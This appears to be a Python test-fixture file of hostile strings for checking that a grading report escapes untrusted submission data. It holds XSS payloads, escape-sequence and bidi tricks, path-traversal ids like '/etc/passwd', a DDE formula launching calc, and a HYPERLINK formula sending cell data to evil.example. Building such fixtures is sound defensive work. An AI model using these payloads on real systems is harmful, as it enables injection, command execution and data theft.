"""Texts that a submission can smuggle into a report: ids, file names, exception texts, notes."""

#: What must never stand in a page as it is written here.
MARKUP = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" style="background:url(https://evil.example/x)" x="',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--<script>-->",
    "--><script>alert(1)</script>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "$<img src=x onerror=alert(1)>$",
    "`<b>`**<i>**",
    "&lt;script&gt;&#x3C;script&#x3E;",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>click</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "${7*7} {{7*7}} {0} %s %(x)s {standing}",
]

#: What changes how text around it is read or drawn.
INVISIBLE = [
    "nul\x00byte",
    "bell\x07 backspace\x08\x08\x08 delete\x7f",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31m eight bits \x85 next line",
    "user\u202egnp.exe \u2066isolated\u2069 \u200fright \u061c",
    "zero\u200bwidth\ufeffspaces\u2060 tag\U000e0041s",
    "line\u2028and\u2029paragraph\r\nbreaks\x0b\x0c",
    "lone \ud800 surrogate \udfff and noncharacters \ufffe \ufdd0",
    "zalgo" + "\u0301\u0322\u035c" * 200,
]

LONG = ["x" * 100_000, "<" * 50_000, "word " * 40_000, "\x1b]0;" + "y" * 100_000, "\u202e" * 90_000]

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\u200d=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "−1",
    "a;=1+1",
    "a; \t@x;-3",
    '";=1+1',
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "\x00=1+1",
    "\x1b[0m=1+1",
]

IDS = [
    "../../x", "..", ".", "/etc/passwd", "C:\\x", "con", "CON", "con.txt", "nul", "aux.html",
    "lpt1", "A", "a", "é", "e\u0301", "ß", "ss", "ﬁ", "fi", "", " ", "a ", "a.", "~",
    "x~9cdf6a50100a862e",
    "-rf", "a/b", "a\\b", "a:b", "a\x00b", "\udcff", "x" * 300, "😀", "ｃｏｎ", "%2e%2e%2f",
    "class",
    "../students/a", "index", "COM¹", "A.B", "a.b", "a@b.example", ".htaccess",
]  # fmt: skip

EVERYTHING = [*MARKUP, *INVISIBLE, *LONG, *FORMULAS, *IDS]
